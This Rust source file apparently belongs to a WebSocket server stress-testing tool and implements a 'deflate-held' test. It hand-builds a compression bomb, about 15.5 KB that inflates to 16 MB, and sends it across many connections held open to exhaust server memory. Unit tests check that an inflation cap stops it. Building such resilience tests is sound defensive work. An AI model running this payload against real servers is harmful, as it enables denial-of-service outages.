//! deflate-held: connections that agree permessage-deflate each send the first frame of a
//! message (FIN clear, RSV1 set) whose DEFLATE data inflates to [`BOMB_INFLATED`] bytes of zeros,
//! then stay silent, reading and answering pings. A server that inflates as data arrives and
//! keeps the unfinished message holds 16 MB for each 15.5 KB it received.
//!
//! The DEFLATE data is written here bit by bit ([`bomb`]) rather than by zlib: one dynamic
//! Huffman block in which a match of 258 bytes at distance 1 costs two bits (the best ratio
//! DEFLATE has, 1032:1), so that it is the same whatever the window agreed (it only ever reaches
//! one byte back) and costs nothing to build.

use c10k::proto::OpCode;

use super::{Ctx, Outcome, drive, many};
use crate::attack::fleet::News;
use crate::attack::frames;
use crate::attack::peer::{Opening, Spec};

/// What the first frame inflates to: zeros, just under the usual 16 MiB message limit (a limit
/// of 16 MiB lets it through, so that what it costs the server is its memory, not a close).
pub const BOMB_INFLATED: usize = 16_000_000;
/// The RSV1 bit in the 3-bit RSV value: "compressed".
const RSV1: u8 = 0b100;
/// The label of connections whose offer the server declined.
pub const DECLINED: &str = "declined permessage-deflate";
/// DEFLATE's longest match.
const MAX_MATCH: usize = 258;

/// Raw DEFLATE data that inflates to [`BOMB_INFLATED`] zeros, as a message's payload is sent
/// (RFC 7692 section 7.2.1: ended by a sync flush whose last four bytes, `00 00 ff ff`, are left
/// out). About 15.5 KB.
///
/// One dynamic Huffman block (not final): literal/length codes 285 (a match of 258) of 1 bit,
/// literal 0 and end-of-block of 2 bits each; distance code 0 (distance 1) of 1 bit. The data is
/// a literal 0, matches of 258, literal zeros for the rest, the end of the block; then the
/// header of the empty stored block of the sync flush.
pub fn bomb() -> Vec<u8> {
    let mut w = Bits::default();
    w.put(0, 1); // BFINAL: not the last block
    w.put(2, 2); // BTYPE: dynamic Huffman codes
    w.put(286 - 257, 5); // HLIT: literal/length codes 0..=285
    w.put(0, 5); // HDIST: one distance code
    w.put(18 - 4, 4); // HCLEN: code length codes in the order below, up to the one for 1
    // Code lengths of the code length alphabet, in its transmission order: 18 (a run of zeros)
    // gets 1 bit, 2 and 1 get 2 bits each.
    const ORDER: [usize; 18] = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1];
    for sym in ORDER {
        w.put(
            match sym {
                18 => 1,
                1 | 2 => 2,
                _ => 0,
            },
            3,
        );
    }
    // Canonical codes of that alphabet: 18 -> 0, 1 -> 10, 2 -> 11.
    let (cl1, cl2, zeros) = ((0b10, 2), (0b11, 2), (0b0, 1));
    let run_of_zeros = |w: &mut Bits, n: u32| {
        w.code(zeros);
        w.put(n - 11, 7);
    };
    // The code lengths of literals/lengths 0..=285, then of distance 0: 0 -> 2, 1..=255 -> 0,
    // 256 -> 2, 257..=284 -> 0, 285 -> 1; distance 0 -> 1.
    w.code(cl2);
    run_of_zeros(&mut w, 138);
    run_of_zeros(&mut w, 117);
    w.code(cl2);
    run_of_zeros(&mut w, 28);
    w.code(cl1);
    w.code(cl1);
    // Canonical codes: 285 -> 0, literal 0 -> 10, end of block -> 11; distance 0 -> 0.
    let (zero, end, long_match, distance_1) = ((0b10, 2), (0b11, 2), (0b0, 1), (0b0, 1));
    w.code(zero);
    let matches = (BOMB_INFLATED - 1) / MAX_MATCH;
    for _ in 0..matches {
        w.code(long_match);
        w.code(distance_1);
    }
    for _ in 0..(BOMB_INFLATED - 1) % MAX_MATCH {
        w.code(zero);
    }
    w.code(end);
    // The sync flush: an empty stored block, whose LEN and NLEN (00 00 ff ff) are left out.
    w.put(0, 1);
    w.put(0, 2);
    w.finish()
}

/// DEFLATE's bit order: fields from their least significant bit, Huffman codes from their most
/// significant, bytes filled from their least significant bit.
#[derive(Debug, Default)]
struct Bits {
    out: Vec<u8>,
    acc: u32,
    n: u32,
}

impl Bits {
    /// A field of `len` bits.
    fn put(&mut self, value: u32, len: u32) {
        for i in 0..len {
            self.bit((value >> i) & 1);
        }
    }

    /// A Huffman code: (code, length).
    fn code(&mut self, (code, len): (u32, u32)) {
        for i in (0..len).rev() {
            self.bit((code >> i) & 1);
        }
    }

    fn bit(&mut self, b: u32) {
        self.acc |= b << self.n;
        self.n += 1;
        if self.n == 8 {
            self.out.push(self.acc as u8);
            self.acc = 0;
            self.n = 0;
        }
    }

    /// The bytes, the last one padded with zeros.
    fn finish(mut self) -> Vec<u8> {
        if self.n > 0 {
            self.out.push(self.acc as u8);
        }
        self.out
    }
}

/// Runs deflate-held.
pub(super) fn held(ctx: &Ctx<'_>) -> Result<Outcome, String> {
    let spec = Spec::with(
        Opening::Upgrade {
            deflate: true,
            path: None,
        },
        "",
    );
    let bomb = bomb();
    let mut declined = 0u64;
    let mut tally = drive(
        ctx,
        many(spec, ctx.scale),
        |fleet, news| {
            let News::Open(k) = *news else { return };
            if fleet.peer(k).is_some_and(|p| p.deflate.is_none()) {
                declined += 1;
                fleet.close(k, 1000);
                return;
            }
            let mut out = Vec::with_capacity(bomb.len() + 14);
            frames::push_frame(&mut out, &mut fleet.keys, false, RSV1, OpCode::Binary, &bomb);
            fleet.send(k, &out);
        },
        |_, _| {},
    )?;
    let mut notes = vec![format!(
        "each connection's first frame: {} bytes that inflate to {BOMB_INFLATED}",
        bomb.len()
    )];
    if declined > 0 {
        tally.add(DECLINED, declined);
        notes.push(format!(
            "{declined} connections were refused permessage-deflate: nothing to inflate"
        ));
    }
    Ok(Outcome { tally, notes })
}

#[cfg(test)]
mod tests {
    use c10k::proto::deflate::{Decompressor, InflateError, TAIL};

    use super::*;

    #[test]
    fn the_bomb_is_15_5_kb_that_inflate_to_16_mb_of_zeros_in_any_window() {
        let bomb = bomb();
        assert!((15_400..15_700).contains(&bomb.len()), "{} bytes", bomb.len());
        let mut data = bomb.clone();
        data.extend_from_slice(&TAIL);
        for bits in [15, 8] {
            let mut out = Vec::new();
            Decompressor::new(bits)
                .inflate::<InflateError>(&data, &mut out, BOMB_INFLATED + 1, &mut |_| Ok(()))
                .unwrap();
            assert_eq!(out.len(), BOMB_INFLATED, "window {bits}");
            let zeros = [0u8; 4096];
            assert!(out.chunks(4096).all(|c| c == &zeros[..c.len()]));
        }
    }

    #[test]
    fn a_cap_below_the_bomb_stops_it() {
        let mut data = bomb();
        data.extend_from_slice(&TAIL);
        let mut out = Vec::new();
        let r = Decompressor::new(15).inflate::<InflateError>(&data, &mut out, 1 << 20, &mut |_| Ok(()));
        assert_eq!(r, Err(InflateError::TooLarge { len: (1 << 20) + 1 }));
        assert!(out.capacity() <= 1 << 20);
    }
}
